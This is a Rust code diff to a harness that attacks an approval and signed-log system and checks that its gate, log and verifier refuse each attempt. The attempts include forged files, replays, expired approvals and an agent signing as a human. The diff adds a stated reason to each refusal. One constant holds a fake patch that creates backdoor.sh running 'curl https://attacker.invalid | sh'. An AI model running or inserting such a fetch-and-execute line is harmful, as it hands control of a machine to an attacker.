@@ -16,11 +16,15 @@ use super::{
     tamper::Pieces,
     telling::Telling,
 };
-use crate::{error::Outcome, git_apply::PATCH};
+use crate::{error::Outcome, git_apply::PATCH, style::Style};
 
 /// A patch that nobody approved.
 const OTHER_PATCH: &str = "diff --git a/backdoor.sh b/backdoor.sh\nnew file mode 100755\n--- /dev/null\n+++ b/backdoor.sh\n\
     @@ -0,0 +1 @@\n+curl https://attacker.invalid | sh\n";
+/// Who refuses.
+const GATE: &str = "gate";
+const LOG: &str = "log";
+const VERIFIER: &str = "verifier";
 /// The name of the file that an attacker passes off as the approved run's.
 const FORGED: &str = "forged.bundle.jsonl";
 
@@ -40,9 +44,13 @@ pub struct Attempt {
     what: &'static str,
     by: &'static str,
     expected: &'static str,
+    why: &'static str,
     status: i32,
     codes: Vec<String>,
 }
+
+/// A way to cheat, tried on an approved proposal where it needs one.
+type Attack<'p> = fn(&Attacks<'p>, &Target) -> Outcome<Vec<Attempt>>;
 
 /// A run with an approved proposal that was not executed yet.
 struct Target {
@@ -55,23 +63,30 @@ struct Target {
 impl Attacks<'_> {
     /// Tries them all.
     pub fn all(&self) -> Outcome<Vec<Attempt>> {
-        self.play.telling.part(
-            "Attacks",
-            "with stolen keys and forged files, against the same server, gate and verifier",
-        )?;
-        let target = self.target()?;
-        let attempts = [
-            self.another_patch(&target)?,
-            self.agent_decides(&target)?,
-            self.executed_twice()?,
-            self.two_approvers(&target)?,
-            self.expired()?,
-            self.replayed()?,
-            self.forged_files()?,
+        let kinds: [Attack<'_>; 7] = [
+            Self::another_patch,
+            Self::agent_decides,
+            Self::executed_twice,
+            Self::two_approvers,
+            Self::expired,
+            Self::replayed,
+            Self::forged_files,
         ];
-        let attempts: Vec<Attempt> = attempts.into_iter().flatten().collect();
+        let telling = self.play.telling;
+        telling.part("Attacks", "with stolen keys and forged files: who refuses each, and why")?;
+        let target = self.target()?;
+        let mut attempts: Vec<Attempt> = Vec::new();
+        for attempt in kinds {
+            for attempt in attempt(self, &target)? {
+                if attempts.last().is_none_or(|last| last.what != attempt.what) {
+                    telling.say(&format!("  {}\n", attempt.what))?;
+                }
+                telling.say(&attempt.line(telling.style()))?;
+                attempts.push(attempt);
+            }
+        }
         let refused = attempts.iter().filter(|attempt| attempt.is_refused()).count();
-        self.play.telling.say(&format!("\n  {} attacks, {refused} refused\n", attempts.len()))?;
+        telling.say(&format!("\n  {} attacks, {refused} refused\n", attempts.len()))?;
         Ok(attempts)
     }
 
@@ -90,8 +105,8 @@ impl Attacks<'_> {
         let body = target.execution(&action, 1, &target.decision)?;
         let log = self.submit_execution(&target.run, &target.decision.id(), &body, None)?;
         Ok(vec![
-            self.tell(WHAT, "gate", "action-differs", &gate)?,
-            self.tell(WHAT, "log", "action-differs", &log)?,
+            Attempt::of(WHAT, GATE, "action-differs", "its hash is not the approved one", &gate),
+            Attempt::of(WHAT, LOG, "action-differs", "not even when signed with the runtime's key", &log),
         ])
     }
 
@@ -105,11 +120,17 @@ impl Attacks<'_> {
         let body = agent.write("decision.json", value(&target.decision)["body"].to_string().as_bytes())?;
         let key = ["--key", "keys/thief.key"];
         let said = self.submit_by_hand(agent, Type::Decision, &target.run, &target.proposal, &body, &key)?;
-        Ok(vec![self.tell("the decision signed by the agent's key", "log", "key-role", &said)?])
+        Ok(vec![Attempt::of(
+            "the decision signed by the agent's key",
+            LOG,
+            "key-role",
+            "that key is an agent's; only people decide",
+            &said,
+        )])
     }
 
     /// The same approval executed twice: asked of the gate, and past it.
-    fn executed_twice(&self) -> Outcome<Vec<Attempt>> {
+    fn executed_twice(&self, _: &Target) -> Outcome<Vec<Attempt>> {
         const WHAT: &str = "the same approval executed twice";
         let (run, bundle) = self.approved;
         let gate = self.gate(run, &[])?;
@@ -119,8 +140,8 @@ impl Attacks<'_> {
         body["nonce"] = nonce()?.into();
         let log = self.submit_execution(run, &execution.id(), &body.to_string(), None)?;
         Ok(vec![
-            self.tell(WHAT, "gate", "use-exceeded", &gate)?,
-            self.tell(WHAT, "log", "use-consumed", &log)?,
+            Attempt::of(WHAT, GATE, "use-exceeded", "one use was granted, and one was made", &gate),
+            Attempt::of(WHAT, LOG, "use-consumed", "the log holds an execution with this use", &log),
         ])
     }
 
@@ -132,7 +153,7 @@ impl Attacks<'_> {
             &target.run,
             &["--proposal", &target.proposal, "--window", "15m"],
         )?;
-        let both = self.bundle(&target.run)?;
+        let both = self.play.bundle(&target.run)?;
         let decisions: Vec<UnverifiedRecord> =
             both.run_records().into_iter().filter(|record| record.kind() == Type::Decision).collect();
         let [first, second] = decisions.as_slice() else { return Err(broken("there are not two decisions")) };
@@ -149,17 +170,23 @@ impl Attacks<'_> {
         }
         let said =
             self.submit_execution(&target.run, &second.id(), &target.execution(&action, 1, second)?, None)?;
-        Ok(vec![self.tell("two approvers, one use, two executions", "log", "use-consumed", &said)?])
+        Ok(vec![Attempt::of(
+            "two approvers, one use, two executions",
+            LOG,
+            "use-consumed",
+            "a use is the proposal's, not each approver's",
+            &said,
+        )])
     }
 
     /// An approval whose window is over: asked of the gate, and past it with a backdated record.
-    fn expired(&self) -> Outcome<Vec<Attempt>> {
+    fn expired(&self, _: &Target) -> Outcome<Vec<Attempt>> {
         const WHAT: &str = "an expired approval";
         let (quiet, human) = (self.quiet(), &self.play.cast.human);
         let run = quiet.start()?;
         let proposal = quiet.propose(&run, self.patch, None)?;
         quiet.approve(human, &run, &["--window", "1s"])?;
-        let bundle = self.bundle(&run)?;
+        let bundle = self.play.bundle(&run)?;
         let decision = bundle.first(Type::Decision).ok_or_else(|| broken("there is no decision"))?;
         let until = value(&decision)["body"]["window"]["until"].as_u64().unwrap_or(0);
         let expired = Target { run, proposal, bundle, decision };
@@ -170,13 +197,19 @@ impl Attacks<'_> {
         let inside = until.saturating_sub(1).to_string();
         let log = self.submit_execution(&expired.run, &expired.decision.id(), &body, Some(&inside))?;
         Ok(vec![
-            self.tell(WHAT, "gate", "window-closed", &gate)?,
-            self.tell("… and the execution backdated", "log", "window-closed", &log)?,
+            Attempt::of(WHAT, GATE, "window-closed", "it was for one second, which is over", &gate),
+            Attempt::of(
+                "… and the execution backdated",
+                LOG,
+                "window-closed",
+                "the log's time counts as well",
+                &log,
+            ),
         ])
     }
 
     /// The whole approved run, submitted to another log.
-    fn replayed(&self) -> Outcome<Vec<Attempt>> {
+    fn replayed(&self, _: &Target) -> Outcome<Vec<Attempt>> {
         let stage = self.play.stage;
         let second = stage.serve("second-log")?;
         let replayer = stage.actor(&second, "replayer")?;
@@ -185,25 +218,44 @@ impl Attacks<'_> {
             bundle.run_records().iter().flat_map(|record| [record.bytes(), b"\n"].concat()).collect();
         let file = replayer.write("run.records", &lines)?;
         let said = stage.run(&replayer, &["submit", &file])?;
-        Ok(vec![self.tell("the run replayed into a second log", "log", "log-mismatch", &said)?])
+        Ok(vec![Attempt::of(
+            "the run replayed into a second log",
+            LOG,
+            "log-mismatch",
+            "each record names the log that it is for",
+            &said,
+        )])
     }
 
     /// The approved run's file, changed in ways that a reader must notice.
-    fn forged_files(&self) -> Outcome<Vec<Attempt>> {
+    fn forged_files(&self, _: &Target) -> Outcome<Vec<Attempt>> {
         type Change = fn(&mut Pieces) -> Option<()>;
-        let changes: [(&str, &str, Change); 4] = [
-            ("another record's inclusion proof", "inclusion-mismatch", Pieces::swap_proof_hashes),
-            ("a record removed from the middle", "inclusion-mismatch", |pieces| {
-                pieces.leave_out(Type::Observation)
+        let changes: [(&str, &str, &str, Change); 4] = [
+            (
+                "another record's inclusion proof",
+                "inclusion-mismatch",
+                "it leads to another root than the log signed",
+                Pieces::swap_proof_hashes,
+            ),
+            (
+                "a record removed from the middle",
+                "inclusion-mismatch",
+                "what is left does not fit the proof",
+                |pieces| pieces.leave_out(Type::Observation),
+            ),
+            (
+                "… and the proof recomputed",
+                "parent-unknown",
+                "the next record names the one removed",
+                |pieces| pieces.leave_out_skilfully(Type::Observation),
+            ),
+            ("one byte changed", "signature-invalid", "its author did not sign that", |pieces| {
+                pieces.change_a_letter(Type::Observation)
             }),
-            ("… and the proof recomputed", "parent-unknown", |pieces| {
-                pieces.leave_out_skilfully(Type::Observation)
-            }),
-            ("one byte changed", "signature-invalid", |pieces| pieces.change_a_letter(Type::Observation)),
         ];
         let auditor = &self.play.cast.auditor;
         let mut attempts = Vec::new();
-        for (what, expected, change) in changes {
+        for (what, expected, why, change) in changes {
             let mut pieces =
                 Pieces::of(&self.approved.1).ok_or_else(|| broken("the approved run is no bundle"))?;
             change(&mut pieces).ok_or_else(|| broken(&format!("nothing to forge: {what}")))?;
@@ -216,7 +268,7 @@ impl Attacks<'_> {
                 .take(1)
                 .map(str::to_owned)
                 .collect();
-            attempts.push(self.tell_codes(what, "verifier", expected, said.status, codes)?);
+            attempts.push(Attempt { what, by: VERIFIER, expected, why, status: said.status, codes });
         }
         Ok(attempts)
     }
@@ -227,7 +279,7 @@ impl Attacks<'_> {
         let run = quiet.start()?;
         let proposal = quiet.propose(&run, self.patch, None)?;
         quiet.approve(&quiet.cast.human, &run, &["--window", "15m"])?;
-        let bundle = self.bundle(&run)?;
+        let bundle = self.play.bundle(&run)?;
         let decision = bundle.first(Type::Decision).ok_or_else(|| broken("there is no decision"))?;
         Ok(Target { run, proposal, bundle, decision })
     }
@@ -236,12 +288,6 @@ impl Attacks<'_> {
     fn quiet(&self) -> Play<'_> {
         let Play { stage, cast, task, telling } = *self.play;
         Play { stage, cast, task, telling: Telling::new(telling.style(), true) }
-    }
-
-    fn bundle(&self, run: &str) -> Outcome<Pieces> {
-        let runtime = &self.play.cast.runtime;
-        self.play.act(runtime, &["bundle", run, "--out", "run.jsonl"])?;
-        Pieces::of(&runtime.take("run.jsonl")?).ok_or_else(|| broken("the server gave no bundle"))
     }
 
     fn gate(&self, run: &str, more: &[&str]) -> Outcome<Said> {
@@ -293,35 +339,6 @@ impl Attacks<'_> {
         who.take("by-hand.record")?;
         answer
     }
-
-    fn tell(
-        &self,
-        what: &'static str,
-        by: &'static str,
-        expected: &'static str,
-        said: &Said,
-    ) -> Outcome<Attempt> {
-        self.tell_codes(what, by, expected, said.status, said.codes())
-    }
-
-    fn tell_codes(
-        &self,
-        what: &'static str,
-        by: &'static str,
-        expected: &'static str,
-        status: i32,
-        codes: Vec<String>,
-    ) -> Outcome<Attempt> {
-        let attempt = Attempt { what, by, expected, status, codes };
-        let (telling, style) = (self.play.telling, self.play.telling.style());
-        let verdict = if attempt.is_refused() {
-            format!("{} by the {by}", style.good(&format!("{:<20}", attempt.code())))
-        } else {
-            style.bad(&format!("NOT REFUSED: {attempt}"))
-        };
-        telling.say(&format!("  {what:<41} {verdict}\n"))?;
-        Ok(attempt)
-    }
 }
 
 impl Target {
@@ -348,6 +365,26 @@ impl Target {
 }
 
 impl Attempt {
+    /// What a command came to that has to be refused with the code expected, for this reason.
+    fn of(
+        what: &'static str,
+        by: &'static str,
+        expected: &'static str,
+        why: &'static str,
+        said: &Said,
+    ) -> Self {
+        Self { what, by, expected, why, status: said.status, codes: said.codes() }
+    }
+
+    /// Who refused it, and why; or that nobody did.
+    fn line(&self, style: Style) -> String {
+        if self.is_refused() {
+            format!("    {:<9} {} {}\n", self.by, style.good(&format!("{:<19}", self.code())), self.why)
+        } else {
+            format!("    {}\n", style.bad(&format!("NOT REFUSED: {self}")))
+        }
+    }
+
     /// Whether it failed, and with the code that it must fail with.
     pub fn is_refused(&self) -> bool {
         self.status > 0 && !self.codes.is_empty() && self.codes.iter().all(|code| code == self.expected)
@@ -359,7 +396,8 @@ impl Attempt {
 
     /// For a program.
     pub fn to_json(&self) -> Value {
-        json!({"attack": self.what, "by": self.by, "code": self.code(), "expected": self.expected, "refused": self.is_refused()})
+        json!({"attack": self.what, "by": self.by, "code": self.code(), "expected": self.expected,
+            "why": self.why, "refused": self.is_refused()})
     }
 }
 
